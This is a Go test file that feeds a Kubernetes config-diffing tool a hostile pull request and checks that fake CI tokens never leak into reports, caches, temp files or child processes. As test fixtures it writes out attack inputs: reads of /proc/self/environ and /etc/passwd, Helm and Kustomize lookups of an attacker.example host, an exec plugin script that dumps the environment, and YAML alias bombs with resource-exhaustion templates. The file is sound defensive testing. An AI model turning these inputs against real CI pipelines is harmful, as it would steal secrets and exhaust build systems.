package main

import (
	"bytes"
	"compress/flate"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"
)

// tokens are in the environment of the run, and must come out nowhere.
var tokens = map[string]string{
	"GITHUB_TOKEN":          "ghs_AttackOnTheRun0123456789abcdefghij00",
	"ACTIONS_RUNTIME_TOKEN": "runtime-AttackOnTheRun-1",
	"AWS_SECRET_ACCESS_KEY": "aws/AttackOnTheRun+2",
	"NPM_TOKEN":             "AttackOnTheRun-3",
}

// tokenMark is in all of them.
const tokenMark = "AttackOnTheRun"

func tankaUnit(files map[string]string, dir, code string) {
	files["jsonnetfile.json"] = "{}"
	files[dir+"/spec.json"] = `{"spec": {"namespace": "x"}}`
	files[dir+"/main.jsonnet"] = "{ x: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'x' }, data: { x: " + code + " } } }"
}

func chartUnit(files map[string]string, dir, value string) {
	files[dir+"/Chart.yaml"] = "apiVersion: v2\nname: c\nversion: 1.0.0\n"
	files[dir+"/templates/x.yaml"] = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  x: " + value + "\n"
}

func kustomizeUnit(files map[string]string, dir, field string) {
	files[dir+"/kustomization.yaml"] = "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\n" + field + "\n"
}

const replicasManifest = "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web, namespace: x}\nspec:\n  replicas: %d\n  selector: {matchLabels: {app: web}}\n" +
	"  template: {metadata: {labels: {app: web}}, spec: {containers: [{name: app, image: registry.example/app@sha256:%s}]}}\n"

func aliasBomb() string {
	var b strings.Builder
	b.WriteString("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n")
	for i := 1; i < 10; i++ {
		fmt.Fprintf(&b, "a%d: &a%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d, ", i-1), 10), ", "))
	}
	return b.String()
}

// TestAttackedRun compares a repository with a pull request in which everything
// is hostile but one unit: each attack is a failure of its unit that says why, the
// harmless unit is compared as ever, and nothing of the environment comes out.
func TestAttackedRun(t *testing.T) {
	before, after := map[string]string{}, map[string]string{}
	sum := strings.Repeat("ab", 32)
	before["good/web.yaml"], after["good/web.yaml"] = fmt.Sprintf(replicasManifest, 3, sum), fmt.Sprintf(replicasManifest, 4, sum)
	const header = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n"
	attacks := []struct {
		unit string
		make func(files map[string]string, dir string)
		want string // a part of what the report says of it, or one of several between bars; "" where it only may not leak
		ok   bool   // it is no failure
	}{
		{"environments/environ", func(f map[string]string, d string) { tankaUnit(f, d, "importstr '/proc/self/environ'") }, "paths are not read", false},
		{"environments/passwd", func(f map[string]string, d string) { tankaUnit(f, d, "importstr '../../../../../../etc/passwd'") }, "not followed", false},
		{"environments/recursion", func(f map[string]string, d string) { tankaUnit(f, d, "local f(x) = f(x) + 1; f(1)") }, "max stack frames exceeded", false},
		{"environments/loop", func(f map[string]string, d string) {
			tankaUnit(f, d, "local g(n, a) = if n == 0 then a + 1 else std.foldl(function(b, i) g(n - 1, b), std.range(1, 1000), a); std.toString(g(5, 0))")
		}, "stopped after 4 s (--timeout)", false},
		{"environments/memory", func(f map[string]string, d string) {
			tankaUnit(f, d, "std.foldl(function(a, i) a + a, std.range(1, 45), 'x')")
		}, "needed more than 4 GiB|stopped after 4 s (--timeout)", false},
		{"charts/environ", func(f map[string]string, d string) { chartUnit(f, d, `{{ env "GITHUB_TOKEN" }}`) }, `"env" not defined`, false},
		{"charts/host", func(f map[string]string, d string) {
			chartUnit(f, d, `{{ getHostByName "x.attacker.example" | quote }}`)
		}, "", true},
		{"charts/loop", func(f map[string]string, d string) {
			chartUnit(f, d, `{{ range until 100000 }}{{ range until 100000 }}{{ end }}{{ end }}`)
		}, "stopped after 4 s (--timeout)", false},
		{"overlays/exec", func(f map[string]string, d string) {
			kustomizeUnit(f, d, "generators: [g.yaml]")
			f[d+"/g.yaml"] = "apiVersion: v1\nkind: Evil\nmetadata:\n  name: x\n  annotations: {config.kubernetes.io/function: 'exec: {path: ./evil.sh}'}\n"
			f[d+"/evil.sh"] = "#!/bin/sh\nenv\n"
		}, "runs no plugins", false},
		{"overlays/file", func(f map[string]string, d string) {
			kustomizeUnit(f, d, "configMapGenerator: [{name: x, files: [/proc/self/environ]}]")
		}, "absolute path", false},
		{"overlays/variable", func(f map[string]string, d string) {
			kustomizeUnit(f, d, "configMapGenerator: [{name: x, envs: [names.env]}]")
			f[d+"/names.env"] = "GITHUB_TOKEN\nNPM_TOKEN\n"
		}, "", true},
		{"overlays/remote", func(f map[string]string, d string) {
			kustomizeUnit(f, d, "resources: ['https://attacker.example/base?ref=x']")
		}, "", true},
		{"manifests/bomb", func(f map[string]string, d string) { f[d+"/x.yaml"] = aliasBomb() }, "alias", false},
		{"manifests/deep", func(f map[string]string, d string) {
			f[d+"/x.yaml"] = header + "data: " + strings.Repeat("[", 200_000) + strings.Repeat("]", 200_000) + "\n"
		}, "levels deep", false},
		{"manifests/deepjson", func(f map[string]string, d string) {
			f[d+"/x.json"] = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"x"},"data":` + strings.Repeat("[", 200_000) + strings.Repeat("]", 200_000) + "}"
		}, "levels deep", false},
		{"manifests/twice", func(f map[string]string, d string) { f[d+"/x.yaml"] = header + "data: {a: '1', a: '2'}\n" }, "key stands twice", true},
		{"manifests/line", func(f map[string]string, d string) {
			f[d+"/x.yaml"] = header + "data: {a: " + strings.Repeat("x", 80<<20) + "}\n"
		}, "prdiff reads files of up to", true},
		{"manifests/tokens", func(f map[string]string, d string) {
			f[d+"/x.yaml"] = header + "data: {a: '" + strings.Repeat("eyJ.", 1<<17) + "'}\n"
		}, "", true},
	}
	for _, a := range attacks {
		a.make(after, a.unit)
	}
	dir := t.TempDir()
	for side, files := range map[string]map[string]string{"before": before, "after": after} {
		for name, text := range files {
			at := filepath.Join(dir, side, filepath.FromSlash(name))
			if err := os.MkdirAll(filepath.Dir(at), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(at, []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
		}
	}
	// What the run leaves in its folder for temporary files counts too.
	tmp := filepath.Join(dir, "tmp")
	if err := os.Mkdir(tmp, 0o700); err != nil {
		t.Fatal(err)
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), exe, "diff", "before", "after", "--timeout", "4s", "--cache", "cache", "--format", "json", "--format", "markdown=report.md", "--format", "text=report.txt")
	cmd.Args[0] = "prdiff" // as which this program is prdiff itself: see TestMain
	cmd.Dir = dir
	cmd.Env = append(slices.DeleteFunc(os.Environ(), func(kv string) bool {
		return strings.HasPrefix(kv, "GITHUB_") || strings.HasPrefix(kv, "CI=")
	}), "TMPDIR="+tmp)
	for name, value := range tokens {
		cmd.Env = append(cmd.Env, name+"="+value)
	}
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	stop, spied := make(chan struct{}), make(chan []string)
	go func() { spied <- spyOnChildren(cmd.Process.Pid, stop) }()
	err = cmd.Wait()
	close(stop)
	if leaks := <-spied; len(leaks) > 0 {
		t.Errorf("children see: %v", leaks)
	}
	if code := cmd.ProcessState.ExitCode(); code != exitFailed {
		t.Errorf("exit code %d, want %d: %v\n%s", code, exitFailed, err, stderr.String())
	}

	var rep struct {
		Units []struct {
			Name, Status, Error string
			Notes               []string
		}
		Changes []struct{ Unit, Action string }
	}
	if err := json.Unmarshal(stdout.Bytes(), &rep); err != nil {
		t.Fatalf("%v\n%.1000s\n%s", err, stdout.String(), stderr.String())
	}
	said := map[string]string{}
	failed := map[string]bool{}
	for _, u := range rep.Units {
		name := strings.TrimSuffix(u.Name, "/x.yaml") // a file that is left out alone
		said[name] = u.Status + ": " + u.Error + strings.Join(u.Notes, " ")
		failed[name] = u.Status == "failed"
	}
	for _, a := range attacks {
		text, ok := said[a.unit]
		switch {
		case !ok && a.want == "" && a.ok:
		case !ok:
			t.Errorf("%s: the report does not speak of it", a.unit)
		case !slices.ContainsFunc(strings.Split(a.want, "|"), func(want string) bool { return strings.Contains(text, want) }) || failed[a.unit] == a.ok && a.want != "":
			t.Errorf("%s: %.300q, want %q", a.unit, text, a.want)
		}
	}
	if !strings.HasPrefix(said["good"], "rendered") || !slices.ContainsFunc(rep.Changes, func(c struct{ Unit, Action string }) bool { return c.Unit == "good" && c.Action == "update" }) {
		t.Errorf("the harmless unit: %s, changes %v", said["good"], rep.Changes)
	}

	for name, text := range map[string]string{"stdout": stdout.String(), "stderr": stderr.String()} {
		if strings.Contains(text, tokenMark) {
			t.Errorf("a token is on %s", name)
		}
	}
	scanned := 0
	for _, name := range []string{"cache", "tmp", "report.md", "report.txt"} {
		scanned += scanForTokens(t, filepath.Join(dir, name))
	}
	if scanned < 3 {
		t.Errorf("only %d files were scanned", scanned)
	}
}

// scanForTokens looks for tokens in all files below root, packed ones too, and
// counts the files.
func scanForTokens(t *testing.T, root string) (files int) {
	t.Helper()
	err := filepath.WalkDir(root, func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(name)
		if err != nil {
			return err
		}
		files++
		texts := [][]byte{data}
		if i := bytes.IndexByte(data, '\n'); i > 0 && bytes.HasPrefix(data, []byte("prdiff rendered")) && len(data) > i+33 {
			opened, err := io.ReadAll(flate.NewReader(bytes.NewReader(data[i+33:])))
			if err != nil || len(opened) == 0 {
				t.Errorf("%s does not unpack: %v", name, err)
			}
			texts = append(texts, opened)
		}
		for _, text := range texts {
			if bytes.Contains(text, []byte(tokenMark)) {
				t.Errorf("a token is in %s", name)
			}
		}
		return nil
	})
	if err != nil {
		t.Error(err)
	}
	return files
}

// spyOnChildren looks at the environment and arguments of a process's children
// until it is told to stop, and gives those that have a token.
func spyOnChildren(pid int, stop chan struct{}) (leaks []string) {
	if runtime.GOOS != "linux" {
		<-stop
		return nil // other systems show them to nobody, or not like this
	}
	seen := 0
	for {
		tasks, _ := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid))
		for _, task := range tasks {
			children, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%s/children", pid, task.Name()))
			for _, child := range strings.Fields(string(children)) {
				cmdline, err := os.ReadFile("/proc/" + child + "/cmdline")
				if err != nil || !bytes.Contains(cmdline, []byte("__render")) {
					continue // gone, or not started to its end
				}
				seen++
				environ, _ := os.ReadFile("/proc/" + child + "/environ") // for root only: nobody else may
				if bytes.Contains(environ, []byte(tokenMark)) || bytes.Contains(cmdline, []byte(tokenMark)) {
					leaks = append(leaks, child)
				}
			}
		}
		select {
		case <-stop:
			if seen == 0 {
				leaks = append(leaks, "nothing: no child was seen")
			}
			return leaks
		case <-time.After(5 * time.Millisecond):
		}
	}
}
